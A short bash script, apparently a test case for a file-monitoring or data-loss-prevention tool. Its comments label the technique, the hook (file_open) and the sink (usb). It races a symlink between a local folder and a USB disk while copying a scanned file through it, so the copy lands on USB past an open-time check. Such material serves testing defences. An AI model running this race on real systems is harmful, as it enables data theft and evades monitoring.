#!/usr/bin/env bash
# technique: a symlink is turned from the own disk to the USB disk while a copy is being opened
# hooks: file_open
# sink: usb

. attack.sh
mkdir "$ROOM/own"
ln -s "$ROOM/own" "$ROOM/way"
(
    for ((turn = 0; turn < 40; turn++)); do
        ln -sfn "$USB" "$ROOM/way"
        ln -sfn "$ROOM/own" "$ROOM/way"
    done
) 2>/dev/null &
for ((turn = 0; turn < 25; turn++)); do
    cp "$SCAN" "$ROOM/way/$here"
done
